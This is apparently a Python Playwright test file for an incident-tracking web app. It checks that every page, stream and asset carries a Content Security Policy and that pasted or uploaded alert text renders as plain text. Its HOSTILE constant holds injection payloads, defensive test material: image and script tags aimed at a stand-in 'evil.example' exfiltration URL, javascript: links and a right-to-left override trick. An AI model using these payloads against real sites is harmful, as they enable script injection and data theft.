"""What a browser may load and run: a policy on every answer, and nothing on any page that it would have to refuse."""

from __future__ import annotations

import re
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Response, expect

from sre_core.api.headers import NOTHING
from sre_core.foreign_text import harmless
from tests.browser.conftest import Server
from tests.browser.steps import press, status

pytestmark = [pytest.mark.browser, pytest.mark.needs("chromium")]

PICTURE = "https://evil.example/p.png?q=stolen"
HOSTILE = (
    f"checkout crashes ![x]({PICTURE}) <img src={PICTURE}> <script src={PICTURE}></script> "
    "[click](javascript:alert(1)) $\\href{javascript:alert(1)}{x}$ :material/bug_report: \u202egnp.live\u202c"
)


@pytest.fixture
def context(own_context: BrowserContext) -> BrowserContext:
    """What is in a browser's cache already has no answer whose policy could be looked at."""
    return own_context


@pytest.fixture
def refused(context: BrowserContext) -> Iterator[list[str]]:
    """What the policy refused to load or run on any page. At the end: nothing."""
    said: list[str] = []
    context.on("console", lambda one: said.append(one.text) if "Content Security Policy" in one.text else None)
    yield said
    assert said == []


def test_no_page_needs_more_than_the_policy_gives_and_hostile_text_stays_text(
    context: BrowserContext, page: Page, scripted: Server, refused: list[str]
) -> None:
    bare: list[str] = []

    def hear(response: Response) -> None:
        if (
            "content-security-policy" not in response.headers
            and response.status != 304
            and not response.url.startswith(("data:", "blob:"))
        ):
            bare.append(response.url)

    context.on("response", hear)
    address = start(page, scripted.url)
    press(page, "Go")
    expect(page.get_by_test_id("approve")).to_be_enabled()
    page.get_by_test_id("approve").click()
    expect(status(page)).to_have_text("Waiting for YOU")
    id_ = address.rpartition("=")[2]
    page.goto(f"{scripted.url}/incidents")
    expect(page.get_by_role("link", name="p.png?q=stolen").first).to_be_visible()
    page.goto(f"{scripted.url}/settings")
    expect(page.get_by_role("heading", name="Settings")).to_be_visible()
    page.goto(f"{scripted.url}/compare?inv={id_}")
    expect(page.get_by_role("heading", name="Compare")).to_be_visible()
    page.goto(f"{scripted.url}/postmortem?inv={id_}")
    page.get_by_role("tab", name="Preview").click()
    expect(page.locator(".st-key-postmortem-preview")).to_contain_text("p.png?q=stolen")
    with page.expect_download() as download:
        page.get_by_role("button", name="Markdown").click()
    assert "![" not in download.value.path().read_text(encoding="utf-8")
    give_a_document(page, scripted.url)
    page.goto(scripted.url)  # it is in the browser's cache by now
    expect(page.get_by_label("The alert")).to_be_visible()
    assert bare == []


def test_what_playwright_turns_off_in_the_browser_stays_off(chromium: Browser) -> None:
    line = chromium.new_browser_cdp_session().send("SystemInfo.getInfo")["commandLine"]
    theirs, ours = (set(names.split(",")) for names in re.findall(r"--disable-features=(\S+)", line))
    assert theirs <= ours, f"say these in scripts/need_chromium.py: {theirs - ours}"


def start(page: Page, url: str) -> str:
    """Paste it; returns the investigation's address. What turns writing round is shown."""
    page.goto(url)
    page.get_by_role("radio", name="Plan first").click()
    page.get_by_label("The alert").fill(HOSTILE)
    page.get_by_role("button", name="Start investigating").click()
    expect(page.get_by_test_id("card-alert")).to_contain_text(harmless(HOSTILE))
    return page.url


def give_a_document(page: Page, url: str) -> None:
    """Take in a file that says the same, and open it."""
    page.goto(f"{url}/knowledge")
    page.get_by_role("tab", name="Add files").click()
    page.locator('input[type="file"]').set_input_files(
        [{"name": "hostile <b>.md", "mimeType": "", "buffer": f"# {HOSTILE}\n\n{HOSTILE}\n".encode()}]
    )
    page.get_by_role("button", name="Take in 1 file").click()
    expect(page.get_by_role("button", name="Dismiss").first).to_be_visible(timeout=60_000)
    page.get_by_role("tab", name="Documents").click()
    page.get_by_role("link", name="checkout crashes").first.click()
    expect(page.get_by_text("evil.example").first).to_be_visible()


def test_the_policy_is_on_pages_streams_assets_refusals_and_what_is_not_there(scripted: Server) -> None:
    for path in ("/", "/incidents", "/api/health", "/api/stream/none", "/nowhere", "/_stcore/health", "/live/x.js"):
        policy = httpx.get(scripted.url + path).headers["content-security-policy"]
        assert policy == NOTHING or "default-src 'none'" in policy
